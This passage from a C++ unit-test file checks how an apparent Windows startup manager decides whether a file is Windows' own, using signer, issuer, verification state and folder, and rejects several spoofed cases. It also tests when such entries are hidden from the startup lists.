    EXPECT_EQ(p.GetFile(kCache), userCache);  // not written either
    EXPECT_TRUE(p.GetFile(kMachineCache).has_value());
}

// Windows' own: Microsoft's signature for Windows, verified, under the Windows
// folder; anything short of all three is not.
TEST(WindowsOwn, MicrosoftsVerifiedWindowsSignatureUnderTheWindowsFolderOnly) {
    const auto id = [](std::string file, std::string signer = "Microsoft Windows",
                       std::string issuer = "Microsoft Windows Production PCA 2011",
                       SignatureState state = SignatureState::Verified) {
        identity::Identity i;
        i.file = std::move(file);
        i.signer = std::move(signer);
        i.issuer = std::move(issuer);
        i.state = state;
        i.fileExists = true;
        return i;
    };
    auto inlineHost = id("C:\\Windows\\System32\\mshta.exe");
    inlineHost.inlineCode = true;
    const struct {
        identity::Identity identity;
        bool own;
    } cases[] = {
        {id("C:\\Windows\\System32\\audiosrv.dll"), true},
        {id("c:\\windows\\system32\\x.exe", "Microsoft Windows Publisher"), true},
        {id("C:\\Windows\\System32\\x.exe", "Microsoft Corporation"), false},
        {id("C:\\Windows\\System32\\x.exe", "Microsoft Windows", "Evil CA"), false},
        {id("C:\\Windows\\System32\\x.exe", "Microsoft Windows", "Microsoft Windows Production PCA 2011",
            SignatureState::Untrusted),
         false},
        {id("C:\\WindowsApps\\x.exe"), false},
        {id("C:\\Windows\\..\\Evil\\x.exe"), false},
        {id("D:\\Windows\\System32\\x.exe"), false},
        {inlineHost, false},
    };
    for (const auto& c : cases) EXPECT_EQ(identity::WindowsOwn(c.identity, "C:\\Windows"), c.own) << c.identity.file;
    EXPECT_FALSE(identity::WindowsOwn(id("C:\\Windows\\System32\\x.exe"), ""));

    // Hidden from the lists: Windows' own as Windows has it, on; not once
    // somebody switched it off, here or in Windows.
    const identity::Identity own = id("C:\\Windows\\System32\\x.exe");
    store::StartupEntry entry;
    EXPECT_TRUE(identity::HiddenAsWindowsOwn(entry, own, "C:\\Windows"));
    EXPECT_FALSE(identity::HiddenAsWindowsOwn(entry, id("C:\\Acme\\x.exe"), "C:\\Windows"));
    entry.windowsOff = true;
    EXPECT_FALSE(identity::HiddenAsWindowsOwn(entry, own, "C:\\Windows"));
    entry.windowsOff = false;
    entry.state = store::EntryState::Disabled;
    EXPECT_FALSE(identity::HiddenAsWindowsOwn(entry, own, "C:\\Windows"));
}

}  // namespace
}  // namespace vantorell::testing
